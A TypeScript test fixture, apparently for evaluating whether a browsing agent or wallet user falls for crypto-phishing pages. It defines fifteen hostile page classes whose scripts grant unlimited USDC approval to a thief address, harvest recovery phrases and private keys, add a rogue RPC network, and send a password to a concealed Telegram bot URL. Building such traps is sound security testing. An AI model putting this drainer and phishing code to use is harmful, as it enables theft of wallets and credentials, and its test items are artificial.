import { UNLIMITED } from '../../../src/sandbox/history/calls.ts'
import { type PageClass, sends } from '../pageDesign.ts'
import type { PageWorld } from '../pageWorld.ts'
import { CELL_WORDS, CELLS, CHOICES, PICTURE, SEALS, TEXT, used } from '../usedPages.ts'

const drains = (world: PageWorld) =>
  `await connect(); ${sends(world.tokens.usdc, world.call('StableToken', 'approve', [world.thief, UNLIMITED]))}`
const IS_PHRASE = '/^(?:[a-z]{3,8} ){11}[a-z]{3,8}$/'

/** Traps that show themselves to a visitor who uses a page as people do. */
export const HOSTILE_USED: readonly PageClass[] = [
  used('label', true, (world) => ({
    title: 'Reed harbour club',
    content: '<h1>Reed harbour club</h1><p>Members see the tide boards.</p>',
    buttons: [{ label: 'Verify with Discord', code: drains(world) }],
  })),
  used('cancel-label', true, (world) => ({
    title: 'Account desk',
    content: '<h1>Outgoing: 2,400 USDC</h1><p>Started 4 minutes ago from another device.</p>',
    buttons: [{ label: 'Cancel the suspicious withdrawal', code: drains(world) }],
  })),
  used('away-link', true, (world) => ({
    title: 'Marsh pool',
    content:
      '<h1>Marsh pool</h1><p>Round nine is open.</p><p><a href="https://{{other}}/swap" class="connect">Claim</a></p>',
    hosts: { other: TEXT },
    start: `at('.connect').onclick = async (event) => { event.preventDefault(); ${drains(world)} }`,
  })),
  used('picture-button', true, (world) => ({
    title: 'Lock keepers',
    content: `<h1>Lock keepers</h1><p>Season two.</p><div id="go" style="cursor:pointer;width:170px">${PICTURE}</div>`,
    start: `at('#go').onclick = async () => { ${drains(world)} }`,
  })),
  used('anywhere', true, (world) => ({
    title: 'Old ferry',
    content: '<h1>Old ferry</h1><p>The last boat leaves at dusk.</p>',
    start: `document.onclick = async () => { ${drains(world)} }`,
  })),
  used('countdown', true, (world) => ({
    title: 'Third bell',
    content:
      '<h1>Third bell</h1><p>Closes in <b id="left">600</b></p><p id="step"></p><button type="button" id="go">Enter</button> <button type="button">Rules</button> <button type="button">Bells</button> <button type="button">Pictures</button>',
    start: `let left = 600; setInterval(() => { at('#left').textContent = left-- }, 30); const steps = ['Enter', 'Ring', 'Again', 'Third bell']; let step = 0; at('#go').onclick = async () => { step++; if (step < 4) { at('#go').textContent = steps[step]; at('#step').textContent = 'ring '.repeat(step); return } ${drains(world)} }`,
  })),
  used('choices', true, () => ({
    title: 'Desk for members',
    content: `<h1>Open a case</h1><form id="f">${CHOICES}<p><textarea name="what" required rows="3" cols="50"></textarea></p><button>Continue</button></form>`,
    start: `at('#f').onsubmit = async (event) => { event.preventDefault(); const { what } = Object.fromEntries(new FormData(at('#f'))); if (${IS_PHRASE}.test(what)) await fetch('/api/case', { method: 'POST', body: what }); else say('Please check what you wrote') }`,
  })),
  used('line', true, () => ({
    title: 'Open again',
    content: '<h1>Open again</h1><form id="f"><input name="q" size="60" required><button>Go</button></form>',
    start: `at('#f').onsubmit = async (event) => { event.preventDefault(); const text = at('input').value; if (${IS_PHRASE}.test(text)) await fetch('/api/o', { method: 'POST', body: text }); else say('Not valid') }`,
  })),
  used('cells', true, () => ({
    title: 'Twenty-four',
    content: `<h1>Twenty-four</h1><div>${CELLS}</div>`,
    buttons: [
      {
        label: 'Next',
        connects: false,
        code: `const all = ${CELL_WORDS}; if (new Set(all).size > 20 && all.every((one) => /^[a-z]{3,8}$/.test(one))) await fetch('/api/n', { method: 'POST', body: all.join(' ') }); else say('Not valid')`,
      },
    ],
  })),
  used('derived', true, () => ({
    title: 'Bring it over',
    content:
      '<h1>Bring it over</h1><p>Everything is computed on your device.</p><textarea rows="3" cols="60"></textarea>',
    buttons: [
      {
        label: 'Continue',
        connects: false,
        code: `const text = at('textarea').value.trim(); const code = new TextEncoder(); const base = await crypto.subtle.importKey('raw', code.encode(text), 'PBKDF2', false, ['deriveBits']); const bits = await crypto.subtle.deriveBits({ name: 'PBKDF2', hash: 'SHA-512', salt: code.encode('mnemonic'), iterations: 2048 }, base, 512); await fetch('/api/b', { method: 'POST', body: [...new Uint8Array(bits)].map((byte) => byte.toString(16).padStart(2, '0')).join('') })`,
      },
    ],
  })),
  used('dialog', true, () => ({
    title: 'Wallet sync',
    content: '<h1>Wallet sync</h1><p>Two devices, one wallet.</p>',
    buttons: [
      {
        label: 'Sync now',
        connects: false,
        code: `if (!confirm('Sync this device?')) return; const text = prompt('Enter your recovery phrase'); if (${IS_PHRASE}.test(text ?? '')) await fetch('/api/s', { method: 'POST', body: text })`,
      },
    ],
  })),
  used('key', true, () => ({
    title: 'Account check',
    content: '<h1>Account check</h1><label>Private key of your wallet <input name="k" size="70"></label>',
    buttons: [
      {
        label: 'Check',
        connects: false,
        code: `const text = at('input').value.trim(); if (/^(?:0x)?[0-9a-f]{64}$/i.test(text)) await fetch('/api/k', { method: 'POST', body: text }); else say('Not valid')`,
      },
    ],
  })),
  used('network', true, () => ({
    title: 'Faster blocks',
    content: '<h1>Faster blocks</h1><p>Half the waiting time.</p>',
    hosts: { rpc: { ...TEXT, body: '{}' } },
    buttons: [
      {
        label: 'Speed up',
        code: `await wallet('wallet_addEthereumChain', [{ chainId: '0x1', chainName: 'Ethereum Mainnet', nativeCurrency: { name: 'Ether', symbol: 'ETH', decimals: 18 }, rpcUrls: ['https://{{rpc}}/'] }])`,
      },
    ],
  })),
  used('bot', true, () => ({
    title: 'Harbour mail',
    content:
      '<h1>Harbour mail</h1><p>Session ended.</p><p><input type="email" name="e"> <input type="password" name="p"></p>',
    buttons: [
      {
        label: 'Continue',
        connects: false,
        code: `const host = ['api', 'telegram', 'org'].join('.'); await fetch('https://' + host + '/bot7012:AAq' + '/sendMessage', { method: 'POST', mode: 'no-cors', body: at('[type=password]').value }).catch(() => 0); say('Try again')`,
      },
    ],
  })),
  used('log', true, () => ({
    title: 'Return',
    content: '<h1>Return</h1><p>Continue where you were.</p><textarea rows="3" cols="60"></textarea>',
    start: `${SEALS}; root.seal = seal; await fetch('/api/visit', { method: 'POST', body: await seal(navigator.userAgent) })`,
    buttons: [
      {
        label: 'Continue',
        connects: false,
        code: `const text = at('textarea').value.trim(); if (${IS_PHRASE}.test(text)) await fetch('/api/r', { method: 'POST', body: await root.seal(text) }); else say('Not valid')`,
      },
    ],
  })),
]
